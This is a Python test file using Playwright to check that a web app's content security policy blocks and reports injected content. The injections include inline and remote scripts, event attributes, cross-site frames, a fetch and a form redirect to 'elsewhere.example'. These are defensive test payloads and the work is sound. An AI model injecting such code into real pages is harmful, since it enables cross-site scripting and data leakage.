"""The content policy in a browser: what is typed as a script is text, what somebody would slip into a page is stopped and told."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser

from guichet.people import demo
from tests.journeys.somebody import BLOCKED, window

INTRUDERS = {
    "a script in the page": "() => { const s = document.createElement('script'); s.textContent = 'window.bad = 1'; document.body.append(s) }",
    "a script of another site": "() => { const s = document.createElement('script'); s.src = 'https://elsewhere.example/a.js'; document.body.append(s) }",
    "an event in an attribute": "() => { document.body.insertAdjacentHTML('beforeend', '<button id=x onclick=\"window.bad = 1\">x</button>'); document.getElementById('x').click() }",
    "a style in an attribute": "() => { document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>') }",
    "a picture of another site": "() => { document.body.append(Object.assign(new Image(), {src: 'https://elsewhere.example/a.png'})) }",
    "a frame of another site": "() => { document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://elsewhere.example/'})) }",
    "words sent to another site": "() => fetch('https://elsewhere.example/').catch(() => {})",
    "another base of all addresses": "() => { document.head.append(Object.assign(document.createElement('base'), {href: 'https://elsewhere.example/'})) }",
}


@pytest.fixture
def nothing_blocked() -> Iterator[None]:
    yield
    BLOCKED.clear()


@pytest.mark.parametrize("intruder", INTRUDERS)
def test_what_is_slipped_into_a_page_is_stopped_and_told(intruder: str, browser: Browser, address: str, nothing_blocked: None) -> None:
    demo.load()
    page = window(browser, script=True, wide=1280)
    page.goto(f"{address}/sign-in")
    assert BLOCKED == [], "a page of ours asks for nothing that is stopped"
    page.evaluate(INTRUDERS[intruder])
    page.wait_for_timeout(200)
    assert len(BLOCKED) >= 1 and page.evaluate("window.bad") is None
    page.context.close()


def test_a_form_cannot_be_turned_to_another_site(browser: Browser, address: str, nothing_blocked: None) -> None:
    demo.load()
    page = window(browser, script=True, wide=1280)
    page.goto(f"{address}/verify")
    page.evaluate("() => { const form = document.querySelector('main form'); form.action = 'https://elsewhere.example/'; form.submit() }")
    page.wait_for_timeout(200)
    assert BLOCKED and page.url.startswith(address)
    page.context.close()


def test_a_page_of_ours_stands_in_no_frame_of_another(browser: Browser, address: str) -> None:
    page = window(browser, script=True, wide=1280)
    page.goto("about:blank")
    page.set_content(f'<iframe src="{address}/law"></iframe>')
    page.wait_for_timeout(500)
    assert all("Guichet" not in frame.content() for frame in page.frames[1:])
    page.context.close()
